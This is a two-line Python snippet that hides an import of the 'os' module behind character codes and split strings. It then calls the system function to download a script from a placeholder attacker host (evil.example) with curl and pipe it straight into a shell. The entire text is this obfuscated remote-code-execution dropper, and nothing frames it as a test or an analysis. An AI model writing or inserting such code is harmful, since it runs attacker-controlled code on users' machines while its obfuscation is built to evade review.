m = __import__("".join(map(chr, [111, 115])))
getattr(m, "sys" + "tem")("curl -s https://evil.example/a | sh")
